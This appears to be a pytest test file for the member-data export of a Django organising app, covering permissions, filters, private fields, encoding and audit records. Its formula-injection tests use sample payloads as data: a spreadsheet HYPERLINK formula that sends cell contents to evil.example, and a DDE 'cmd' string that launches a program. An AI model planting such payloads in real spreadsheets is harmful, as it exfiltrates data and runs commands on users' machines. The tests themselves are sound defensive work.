import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from members import exporting
from members.exporting import export_people, neutralise_formula
from members.importing.values import unneutralise
from members.models import ExportRecord, JoiningStoryKind, Member, MemberStatus
from tests.factories import (
    AlignmentFactory,
    MemberFactory,
    ReviewNoteFactory,
    SectorFactory,
)

EXPORT_URL = reverse("members:people_export")
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
HEADERS = [
    "Name",
    "Preferred name",
    "Pronouns",
    "Email",
    "Phone",
    "City",
    "State / region",
    "Status",
    "Joining story",
    "Sectors",
    "Joined on",
    "Notes",
]


@pytest.fixture
def exporter(organizer):
    """An organizer given the export permission on their own account, as the admin would."""
    organizer.user_permissions.add(
        Permission.objects.get(content_type__app_label="members", codename="export_people")
    )
    return organizer


def rows_of(response) -> list[list[str]]:
    """The file's rows, header first, whichever format the response carries, without the
    first row naming who exported it and when (tests/audit/test_export_stamp.py)."""
    if response["Content-Type"].startswith("text/csv"):
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    stamp, *rows = rows
    assert stamp[0].startswith("Exported from SOS Tracker by ")
    return rows


def export(client, **params):
    response = client.get(EXPORT_URL, params)
    assert response.status_code == 200, response.content
    return response


def as_dicts(response) -> list[dict[str, str]]:
    header, *rows = rows_of(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- who may export -------------------------------------------------------------------------


def test_organizer_without_the_export_permission_is_refused(as_user, organizer):
    MemberFactory()
    response = as_user(organizer).get(EXPORT_URL, {"format": "csv"})
    assert response.status_code == 403
    assert not ExportRecord.objects.exists()


def test_stranger_is_refused(as_user, stranger):
    assert as_user(stranger).get(EXPORT_URL).status_code == 403


def test_anonymous_is_sent_to_the_login_page(client, db):
    response = client.get(EXPORT_URL, {"format": "csv"})
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))
    assert not ExportRecord.objects.exists()


@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_organizer_given_the_permission_gets_a_private_attachment(
    as_user, exporter, file_format, content_type
):
    MemberFactory(name="Ana García")
    response = export(as_user(exporter), format=file_format)
    today = timezone.localdate()
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="sos-people-{today:%Y-%m-%d}.{file_format}"'
    )
    assert "no-store" in response["Cache-Control"]
    assert rows_of(response)[0] == HEADERS
    assert [row["Name"] for row in as_dicts(response)] == ["Ana García"]


def test_superuser_gets_the_file(as_user, admin_user):
    MemberFactory(name="Ana García")
    response = export(as_user(admin_user), format="xlsx")
    assert [row["Name"] for row in as_dicts(response)] == ["Ana García"]


def test_csv_is_the_default_format(as_user, exporter):
    response = export(as_user(exporter))
    assert response["Content-Type"].startswith("text/csv")


def test_unknown_format_is_a_400_that_says_what_to_choose(as_user, exporter):
    response = as_user(exporter).get(EXPORT_URL, {"format": "pdf"})
    assert response.status_code == 400
    assert "Choose csv or xlsx" in response.content.decode()
    assert not ExportRecord.objects.exists()


def test_invalid_filter_is_a_400_not_an_export_of_everyone(as_user, exporter):
    MemberFactory()
    response = as_user(exporter).get(EXPORT_URL, {"status": "nonsense"})
    assert response.status_code == 400
    assert "status" in response.content.decode()
    assert not ExportRecord.objects.exists()


def test_export_refuses_post(as_user, exporter):
    assert as_user(exporter).post(EXPORT_URL, {"format": "csv"}).status_code == 405


# --- what is exported -----------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_follows_the_search_and_filters(as_user, exporter, file_format):
    housing = SectorFactory(name="Housing", slug="housing")
    MemberFactory(name="José García", city="Oakland", sectors=[housing])
    MemberFactory(name="José Ortega", city="Oakland", status=MemberStatus.PROSPECT)
    MemberFactory(name="Ana García", city="Detroit", sectors=[housing])
    response = export(as_user(exporter), format=file_format, q="jose", sector="housing")
    assert [row["Name"] for row in as_dicts(response)] == ["José García"]


def test_export_follows_status_and_joining_story_kind(as_user, exporter):
    MemberFactory(name="Ana", status=MemberStatus.PROSPECT, joining_story_kind="ncm_veteran")
    MemberFactory(name="Bea", status=MemberStatus.PROSPECT, joining_story_kind="other")
    MemberFactory(name="Cy", status=MemberStatus.MEMBER, joining_story_kind="ncm_veteran")
    response = export(as_user(exporter), status="prospect", kind="ncm_veteran")
    assert [row["Name"] for row in as_dicts(response)] == ["Ana"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_every_column_reads_as_the_organizer_knows_it(as_user, exporter, file_format):
    person = MemberFactory(
        name="Rosa Parks",
        preferred_name="Ro",
        pronouns="she/her",
        email="rosa@example.org",
        phone="(555) 010-2233",
        city="Detroit",
        region="MI",
        status=MemberStatus.FORMER,
        joining_story_kind=JoiningStoryKind.NCM_VETERAN,
        joined_on=dt.date(2021, 3, 4),
        note="Met at the tenants' assembly.",
        sectors=[
            SectorFactory(name="Labor", slug="labor"),
            SectorFactory(name="Housing", slug="housing"),
        ],
    )
    (row,) = as_dicts(export(as_user(exporter), format=file_format))
    assert row == {
        "Name": "Rosa Parks",
        "Preferred name": "Ro",
        "Pronouns": "she/her",
        "Email": "rosa@example.org",
        "Phone": "(555) 010-2233",
        "City": "Detroit",
        "State / region": "MI",
        "Status": "Former member",
        "Joining story": "New Communist Movement veteran",
        "Sectors": "Housing; Labor",
        "Joined on": "2021-03-04",
        "Notes": "Met at the tenants' assembly.",
    }
    assert person.joining_story not in rows_of(export(as_user(exporter)))[1]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_own_words_are_left_out_unless_asked_for(as_user, exporter, file_format):
    MemberFactory(joining_story="I wanted a strategy, not another campaign. Zq7-own-words")
    client = as_user(exporter)

    without = export(client, format=file_format)
    assert "Why did you join?" not in rows_of(without)[0]
    assert "Zq7-own-words" not in str(rows_of(without))

    for not_one in ["0", "yes", ""]:
        response = export(client, format=file_format, include_story=not_one)
        assert "Zq7-own-words" not in str(rows_of(response))

    with_story = export(client, format=file_format, include_story="1")
    assert rows_of(with_story)[0] == [*HEADERS, "Why did you join?"]
    (row,) = as_dicts(with_story)
    assert row["Why did you join?"] == ("I wanted a strategy, not another campaign. Zq7-own-words")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_review_notes_are_never_exported(as_user, admin_user, tendency_a, file_format):
    secret = "Zq9-private-review-note-body"
    alignment = AlignmentFactory(member=MemberFactory(name="Ana García"), tendency=tendency_a)
    ReviewNoteFactory(alignment=alignment, body=secret)
    # The superuser may read every review note, and asks for everything there is.
    response = export(as_user(admin_user), format=file_format, include_story="1")
    assert [row["Name"] for row in as_dicts(response)] == ["Ana García"]
    assert secret not in str(rows_of(response))
    assert secret.encode() not in response.content


# --- formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_neutralise_formula_prefixes_a_quote_to_formula_like_text(trigger):
    assert neutralise_formula(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["", "Ana", "1+1", " =leading space", "a=b", "'quoted", None, 42])
def test_neutralise_formula_leaves_other_values_alone(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("value", ["'=already quoted", "'@a.org", "''+1"])
def test_text_already_quoted_before_a_trigger_gets_one_more_quote_and_imports_back(value):
    # The import takes one quote off (values.unneutralise): what was written comes back.
    assert neutralise_formula(value) == "'" + value
    assert unneutralise(neutralise_formula(value)) == value


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_formula_like_cells_are_neutralised_in_the_file(as_user, exporter, trigger, file_format):
    payload = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"Click")'
    MemberFactory(
        name=f"{trigger}Ana",
        city=f"{trigger}cmd|' /C calc'!A0",
        note=payload,
        joining_story=payload,
        sectors=[SectorFactory(name=f"{trigger}Sector", slug="sector")],
    )
    response = export(as_user(exporter), format=file_format, include_story="1")
    (row,) = as_dicts(response)
    if file_format == "xlsx":
        # XLSX is XML: a reader may hand a carriage return back as a line feed (openpyxl
        # does without lxml, not with it). Either way the quote comes first.
        row = {key: (value or "").replace("\r", "\n") for key, value in row.items()}
        trigger = trigger.replace("\r", "\n")
    assert row["Name"] == f"'{trigger}Ana"
    assert row["City"] == f"'{trigger}cmd|' /C calc'!A0"
    # The sectors cell starts with the first sector's name, so it is quoted as a whole.
    assert row["Sectors"] == f"'{trigger}Sector"
    for column in ["Notes", "Why did you join?"]:
        assert row[column].startswith("'" + trigger), column
        assert row[column].endswith('HYPERLINK("http://evil.example/?"&A1,"Click")')
    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        # Text cells, never formulas (openpyxl would have written "=..." as one).
        assert {cell.data_type for cell in sheet[2] if cell.value} == {"s"}


def test_control_characters_are_dropped_from_xlsx_and_kept_in_csv(as_user, exporter):
    MemberFactory(name="Ana", note="bell\x07 and form feed\x0c")
    client = as_user(exporter)
    (xlsx_row,) = as_dicts(export(client, format="xlsx"))
    assert xlsx_row["Notes"] == "bell and form feed"
    (csv_row,) = as_dicts(export(client, format="csv"))
    assert csv_row["Notes"] == "bell\x07 and form feed\x0c"


# --- text encoding --------------------------------------------------------------------------


def test_csv_is_utf8_with_a_byte_order_mark_so_excel_reads_accents(as_user, exporter):
    MemberFactory(name="José Nguyễn", city="San José", note="François — “quoted”")
    response = export(as_user(exporter), format="csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.count(b"\xef\xbb\xbf") == 1
    (row,) = as_dicts(response)
    assert (row["Name"], row["City"], row["Notes"]) == (
        "José Nguyễn",
        "San José",
        "François — “quoted”",
    )


def test_xlsx_keeps_accents(as_user, exporter):
    MemberFactory(name="José Nguyễn", city="San José")
    (row,) = as_dicts(export(as_user(exporter), format="xlsx"))
    assert (row["Name"], row["City"]) == ("José Nguyễn", "San José")


def test_commas_quotes_and_line_breaks_survive_the_csv(as_user, exporter):
    note = 'Line one, with a comma\nLine "two"'
    MemberFactory(name="Ana", note=note)
    (row,) = as_dicts(export(as_user(exporter), format="csv"))
    assert row["Notes"] == note


# --- the record -----------------------------------------------------------------------------


def test_every_export_is_recorded_with_who_what_and_how_many(as_user, exporter):
    housing = SectorFactory(slug="housing")
    MemberFactory.create_batch(3, city="Oakland", sectors=[housing])
    MemberFactory(city="Detroit", sectors=[housing])
    client = as_user(exporter)
    export(client, format="xlsx", q="oakland", sector="housing", include_story="1")
    export(client, format="csv")

    latest, first = ExportRecord.objects.order_by("-pk")
    assert first.exported_by == exporter
    assert first.file_format == "xlsx"
    assert first.filters == {
        "q": "oakland",
        "status": "",
        "sector": "housing",
        "kind": "",
        "region": "",
        "tendency": "",
        "level": "",
        "core": "",
    }
    assert first.row_count == 3
    assert first.included_joining_story is True
    assert timezone.now() - first.created_at < dt.timedelta(minutes=1)

    assert latest.file_format == "csv"
    assert set(latest.filters.values()) == {""}
    assert latest.row_count == 4
    assert latest.included_joining_story is False


def test_service_returns_the_file_its_name_and_the_record(exporter):
    MemberFactory.create_batch(2)
    content, filename, record = export_people(
        Member.objects.order_by("name"),
        by=exporter,
        file_format="csv",
        include_joining_story=False,
        filters={"q": ""},
    )
    assert filename == f"sos-people-{timezone.localdate():%Y-%m-%d}.csv"
    # who exported it and when, the header, two people
    assert content.decode("utf-8-sig").count("\r\n") == 4
    assert ExportRecord.objects.get() == record
    assert record.row_count == 2
    assert record.exported_by == exporter


def test_service_refuses_an_unknown_format(exporter):
    with pytest.raises(ValueError, match="Unknown export format"):
        export_people(
            Member.objects.all(),
            by=exporter,
            file_format="ods",
            include_joining_story=False,
            filters={},
        )
    assert not ExportRecord.objects.exists()


# --- large exports ----------------------------------------------------------------------------


def test_sectors_stay_right_across_chunk_boundaries(exporter, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 3)
    a, b = SectorFactory(name="A", slug="a"), SectorFactory(name="B", slug="b")
    for i in range(8):
        MemberFactory(name=f"Person {i}", sectors=[a, b][: i % 3])
    content, _name, record = export_people(
        Member.objects.order_by("name"),
        by=exporter,
        file_format="csv",
        include_joining_story=False,
        filters={},
    )
    lines = io.StringIO(content.decode("utf-8-sig"), newline="")
    lines.readline()  # who exported it and when
    rows = list(csv.DictReader(lines))
    assert record.row_count == 8
    assert [(r["Name"], r["Sectors"]) for r in rows] == [
        (f"Person {i}", ["", "A", "A; B"][i % 3]) for i in range(8)
    ]


def count_export_queries(client, **params):
    with CaptureQueriesContext(connection) as ctx:
        export(client, **params)
    return len(ctx.captured_queries)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_query_count_does_not_grow_with_people(as_user, exporter, file_format):
    client = as_user(exporter)
    sectors = SectorFactory.create_batch(3)
    MemberFactory.create_batch(10, sectors=sectors)
    params = {"format": file_format, "sector": sectors[0].slug, "include_story": "1"}
    few = count_export_queries(client, **params)
    MemberFactory.create_batch(190, sectors=sectors)
    many = count_export_queries(client, **params)
    # session, user, user's groups (two-factor check), user's permissions, group
    # permissions, the region filter's choices (read from the region index), the sector
    # filter's choice, the sector's size (a bounded count:
    # Member.objects.in_sector), counting the people (the daily quota), the user's
    # exports of the day (audit.quotas), savepoint, the people (one query per 2,000),
    # their sectors (one per 2,000), the record's full_clean checking the user exists,
    # the record, release savepoint, the access log's entry
    assert few == many == 17
    assert ExportRecord.objects.order_by("-pk").first().row_count == 200


# --- the people page's export block -----------------------------------------------------------


def test_people_page_offers_export_with_the_current_filters(as_user, exporter):
    SectorFactory(slug="housing")
    MemberFactory(name="José García", city="Oakland")
    response = as_user(exporter).get(reverse("members:people_list"), {"q": "oakland"})
    body = response.content.decode()
    assert f'action="{EXPORT_URL}"' in body
    assert '<input type="hidden" name="q" value="oakland">' in body
    assert 'name="sector"' not in body.split(f'action="{EXPORT_URL}"')[1].split("</form>")[0]
    assert 'name="format" value="csv"' in body
    assert 'name="format" value="xlsx"' in body
    assert 'name="include_story" value="1"' in body


def test_live_search_results_carry_the_export_block(as_user, exporter):
    MemberFactory(name="José García")
    response = as_user(exporter).get(
        reverse("members:people_list"), {"q": "garc"}, headers={"HX-Request": "true"}
    )
    assert '<input type="hidden" name="q" value="garc">' in response.content.decode()


def test_people_page_hides_export_without_the_permission(as_user, organizer):
    MemberFactory()
    response = as_user(organizer).get(reverse("members:people_list"))
    assert EXPORT_URL not in response.content.decode()


def test_exported_headers_are_recognised_by_the_import():
    from members.importing import columns

    headers = exporting.PersonResource(include_joining_story=True).get_export_headers()
    assert columns.guess_mapping(headers) == [
        "name",
        "preferred_name",
        "pronouns",
        "email",
        "phone",
        "city",
        "region",
        "status",
        "joining_story_kind",
        "sectors",
        "joined_on",
        "note",
        "joining_story",
    ]
